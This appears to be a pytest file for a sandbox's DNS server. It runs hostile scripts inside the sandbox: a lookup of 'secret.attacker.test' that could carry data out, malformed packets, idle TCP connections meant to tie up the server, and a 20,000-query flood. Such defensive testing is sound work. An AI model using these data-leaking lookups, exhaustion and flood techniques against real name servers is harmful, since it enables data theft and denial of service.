"""Hostile code and the name server of its sandbox."""

from __future__ import annotations

import pytest

from sandboxes.engine.egress.direct import address_book
from tests.fixtures.waiting import until_async
from tests.sandboxes.engine.conftest import start, top
from tests.sandboxes.link.conftest import full, street
from tests.sandboxes.link.street import Street

__all__ = ["full", "start", "street", "top"]

RAW = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.sendto(bytes.fromhex(sys.argv[1]), ("198.18.0.1", 53))
try: print(s.recv(2000).hex())
except OSError as error: print(type(error).__name__)
"""


async def test_a_name_that_is_not_allowed_is_asked_of_nobody(street: Street):
    """A question could carry what the sandbox knows to whoever answers for the name."""
    await street.open({"allow": ["good.test"]})
    await street.python("import socket; socket.gethostbyname('secret.attacker.test')")
    assert street.town.lookups == []


@pytest.mark.parametrize(
    "data", ["c00c" * 8, "0007010000010000000000000000c00c00010001", "ff" * 600, "00" * 12, "00"]
)
async def test_the_name_server_goes_on_after_malformed_questions(street: Street, data: str):
    street.town.names["good.test"] = ["203.0.113.7"]
    await street.open("internet")
    script = RAW.replace("s.settimeout(10)", "s.settimeout(0.2)")
    await street.python(script, data)
    name = "import socket; print(socket.gethostbyname('good.test'))"
    assert (await street.python(name)).startswith(("198.18.", "198.19."))


async def test_a_name_server_over_tcp_is_not_held_by_who_says_nothing(street: Street):
    street.town.names["good.test"] = ["203.0.113.7"]
    await street.open("internet")
    script = """
import socket, struct
idle = [socket.create_connection(("198.18.0.1", 53)) for _ in range(12)]
question = bytes.fromhex("000701000001000000000000") + b"\\4good\\4test\\0\\0\\1\\0\\1"
s = socket.create_connection(("198.18.0.1", 53), 10)
s.sendall(struct.pack("!H", len(question)) + question)
print(s.recv(2000)[-4:].hex())
"""
    assert (await street.python(script)).startswith(("c612", "c613"))


async def test_a_flood_of_names_is_bounded(street: Street):
    await street.open({"allow": ["good.test"]})
    script = """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(20000):
    name = b"n%05d" % n
    question = bytes.fromhex("000701000001000000000000") + b"\\6" + name + b"\\4evil\\0\\0\\1\\0\\1"
    s.sendto(question, ("198.18.0.1", 53))
"""
    await street.python(script)
    why = "more questions for names than are answered"
    await until_async(lambda: ("sandbox", 53, why) in street.refusals())
    assert len(street.town.gateway.outlets["box"].book) <= address_book.MOST_NAMES
    assert len(street.town.decisions) < 200
